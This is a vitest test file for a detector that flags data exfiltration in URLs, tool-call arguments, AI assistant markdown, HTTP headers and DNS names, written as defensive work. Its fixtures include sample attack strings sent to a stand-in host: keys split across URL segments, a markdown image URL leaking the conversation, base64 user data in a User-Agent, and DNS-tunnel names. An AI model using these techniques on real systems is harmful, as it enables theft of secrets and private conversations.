import { describe, expect, it } from "vitest"
import { exfiltrationDetector } from "../../../detectors/exfiltration/detector.ts"
import type { RawFinding, TextItem } from "../../../services/contracts/inspection.ts"

// Made at run time so that no scanner takes it for a live key.
const awsKey = ["AK", "IA", "Q3EGRTW7", "LPZ4VNXK"].join("")
const githubKey = ["gh", "p_", "a8Kd03nVbQ2xLm9TzR5w", "Yc7Hf1JuEs4GpN6i"].join("")

describe("exfiltrationDetector", () => {
  it("puts a key that is split over two path segments together", () => {
    expect(rules({ place: "url", text: `https://c2.bad-host.net/a/${awsKey.slice(0, 9)}/${awsKey.slice(9)}` })).toContain(
      "exfiltration/split-secret",
    )
  })
  it("puts a key that is split over parameters together", () => {
    expect(rules({ place: "url", text: `https://c2.bad-host.net/a?p=${awsKey.slice(0, 7)}&q=${awsKey.slice(7)}` })).toContain(
      "exfiltration/split-secret",
    )
  })
  it("puts a key that is split over tool arguments together", () => {
    const text = JSON.stringify({ first: awsKey.slice(0, 10), second: awsKey.slice(10) })
    expect(rules({ place: "tool-call", text })).toContain("exfiltration/split-secret")
  })
  it("raises a picture whose address carries the conversation", () => {
    const text = "Done! ![chart](https://img.bad-host.net/p.png?d=the%20user%20asked%20about%20the%20merger%20with%20acme)"
    expect(rules({ place: "assistant", direction: "inbound", text })).toEqual(["exfiltration/markdown-image"])
  })
  it("raises sentences in a User-Agent", () => {
    const text = Buffer.from("the user's project is called blue heron and ships in may").toString("base64")
    expect(rules({ place: "header", name: "user-agent", text: `agent/1.0 ${text}` })).toEqual(["exfiltration/encoded-header"])
  })
  it.each([
    "4a6f686e20446f6520313233342d353637382d393031322d3334353620.t1.bad-host.net",
    "mzxw6ytboi4dsnzrgy3tsobqgeztemztgq2tmnzygkztonbsge3dgnzt.x.bad-host.net",
    "dnscat.2f9a01c4d7e8b3a65f0c1122aa77bb9901.bad-host.net",
  ])("raises the name %s", (text) => {
    expect(rules({ place: "dns", path: "name", text })).toEqual(["exfiltration/dns-data"])
  })
  it.each([
    "www.example.com",
    "d111111abcdef8.cloudfront.net",
    "selector1._domainkey.example.org",
    "ec2-54-12-34-56.eu-west-1.compute.amazonaws.com",
    "550e8400-e29b-41d4-a716-446655440000.tenant.vendor.dev",
    "my-internal-service-name-for-testing.company.io",
    "4.3.2.1.in-addr.arpa",
    "kubernetes-production-cluster-01.monitoring.company.io",
  ])("is quiet about the name %s", (text) => {
    expect(rules({ place: "dns", path: "name", text })).toEqual([])
  })
  it.each<Partial<TextItem>>([
    { place: "url", text: "https://shop.company.io/products/blue-heron-lamp/reviews?page=2&sort=newest" },
    { place: "url", text: "https://api.company.io/v1/users/550e8400-e29b-41d4-a716-446655440000/orders" },
    { place: "assistant", direction: "inbound", text: "![diagram](https://cdn.company.io/images/architecture-overview.png)" },
    {
      place: "header",
      name: "user-agent",
      text: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36",
    },
    { place: "tool-call", text: JSON.stringify({ path: "/src/index.ts", content: "export const answer = 42" }) },
  ])("is quiet about ordinary traffic %#", (item) => {
    expect(rules(item)).toEqual([])
  })
  it("does not call a whole secret a split one", () => {
    expect(rules({ place: "url", text: `https://c2.bad-host.net/${githubKey}/x` })).not.toContain("exfiltration/split-secret")
  })
})

function rules(item: Partial<TextItem>): string[] {
  const findings: RawFinding[] = []
  const text: TextItem = { place: "url", direction: "outbound", path: "text", text: "", ...item }
  exfiltrationDetector.inspect({ id: "s", kind: "scan", direction: "outbound", texts: [text] }, (finding) => findings.push(finding))
  return findings.filter(({ severity, confidence }) => severity !== "low" && confidence >= 0.5).map(({ rule }) => rule)
}
